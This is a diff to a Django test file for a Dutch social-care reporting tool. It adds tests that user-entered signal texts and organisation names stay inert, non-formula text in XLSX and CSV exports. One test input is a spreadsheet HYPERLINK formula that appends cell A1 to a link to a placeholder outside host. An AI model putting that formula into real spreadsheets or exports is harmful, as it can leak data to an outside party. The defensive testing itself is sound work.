@@ -2,6 +2,7 @@
 a suppressed count could be worked out from, and no periods that have not happened yet."""
 
 import base64
+import csv
 import io
 import json
 import re
@@ -59,11 +60,11 @@ def westerveld(f):
     return {"muni": muni, "org": org, "requests": requests}
 
 
-# --- 1. the shareable signal texts must not give away a count shown as "<5" ----------------------------
+# --- 1. the approved signal texts must not give away a count shown as "<5" ----------------------------
 def test_a_funder_never_sees_how_many_signals_a_suppressed_count_hides(f, login, westerveld):
     for request, text in zip(westerveld["requests"], SECRET_TEXTS, strict=False):
         Signal.objects.create(help_request=request, theme="waiting_list", text=text, shareable=True,
-                              recorded_at=at("2025-08-10 10:00"))
+                              status="approved", approved_text=text, recorded_at=at("2025-08-10 10:00"))
     client = login(f.user(Role.FUNDER, muni=westerveld["muni"]))
     query = {"kind": "signals", "period": "2025", "municipality": "GM1701"}
     page = client.get(URL, query).content.decode()
@@ -89,10 +90,10 @@ def test_a_funder_never_sees_how_many_signals_a_suppressed_count_hides(f, login,
     assert all(text in page for text in SECRET_TEXTS)
 
 
-def test_five_or_more_shareable_texts_are_listed_for_a_funder(f, login, westerveld):
+def test_five_or_more_approved_texts_are_listed_for_a_funder(f, login, westerveld):
     for i, request in enumerate(westerveld["requests"][:6]):
         Signal.objects.create(help_request=request, theme="rules", text=f"Signaaltekst {i}", shareable=True,
-                              recorded_at=at("2025-03-10 10:00"))
+                              status="approved", approved_text=f"Signaaltekst {i}", recorded_at=at("2025-03-10 10:00"))
     page = login(f.user(Role.FUNDER, muni=westerveld["muni"])).get(
         URL, {"kind": "signals", "period": "2025"}).content.decode()
     assert all(f"Signaaltekst {i}" in page for i in range(6))
@@ -241,3 +242,46 @@ def test_the_header_dates_are_dutch_and_an_empty_scope_says_so(f, login, westerv
     assert "Geen hulpvragen in deze periode en selectie" in page
     full = client.get(URL, {"period": "2025"}).content.decode()
     assert "Geen hulpvragen in deze periode en selectie" not in full
+
+
+# --- 3. words typed by users never run as a spreadsheet formula -------------------------------------------
+FORMULA = '=HYPERLINK("http://e.example/?"&A1,"Klik")'
+
+
+def test_a_formula_in_a_signal_is_plain_text_in_the_xlsx_and_the_csv(f, login, westerveld):
+    westerveld["org"].name = "@Zorg en Welzijn"
+    westerveld["org"].save()
+    texts = [FORMULA, "-3 plekken minder bij de dagbesteding", "Wachtlijst 1", "Wachtlijst 2", "Wachtlijst 3"]
+    for request, text in zip(westerveld["requests"], texts, strict=False):
+        Signal.objects.create(help_request=request, theme="waiting_list", text=text, shareable=True,
+                              status="approved", approved_text=text, recorded_at=at("2025-08-10 10:00"))
+    query = {"kind": "signals", "period": "2025", "municipality": "GM1701"}
+    for reader in (f.user(Role.FUNDER, muni=westerveld["muni"]), f.user(Role.COORDINATOR, org=westerveld["org"])):
+        client = login(reader)
+        workbook = load_workbook(io.BytesIO(client.get(f"{URL}download/xlsx/", query).content))
+        cells = {c.value: c for ws in workbook for row in ws.iter_rows() for c in row if c.value is not None}
+        assert FORMULA not in cells and not any(c.data_type == "f" for c in cells.values())
+        assert cells["'" + FORMULA].data_type == "s"
+        assert cells["'-3 plekken minder bij de dagbesteding"].data_type == "s"
+        assert cells["'@Zorg en Welzijn"].data_type == "s"
+        counts = workbook["signals_by_theme"]
+        assert counts["B3"].value == 5 and counts["B3"].data_type == "n"  # a count stays a number
+        rows = list(csv.reader(io.StringIO(client.get(f"{URL}download/csv/", query).content.decode("utf-8-sig"))))
+        values = [row[4] for row in rows if row[0] == "signals_shareable" and row[3] == "text"]
+        assert "'" + FORMULA in values and FORMULA not in values
+        labels = [row[2] for row in rows if row[0] == "signals_by_organisation"]
+        assert labels == ["'@Zorg en Welzijn"]
+        assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)
+    assert outputs._cell(-12) == "-12" and outputs._cell(-0.5) == "-0.5"  # numbers are not text
+
+
+def test_formulas_are_inert_in_the_monitor_xlsx_too(f, westerveld):
+    """Names come from the administrator too (organisations, districts): the monitor's sheets hold them."""
+    westerveld["org"].name = "=1+1"
+    westerveld["org"].save()
+    report = build_report("monitor", parse_period("2025"), Scope(organisation=westerveld["org"]),
+                          now=at("2026-01-01 10:00"))
+    workbook = load_workbook(io.BytesIO(outputs.to_xlsx(report)))
+    values = [c for ws in workbook for row in ws.iter_rows() for c in row if c.value is not None]
+    assert not any(c.data_type == "f" for c in values)
+    assert any(c.value == "'=1+1" for c in values)
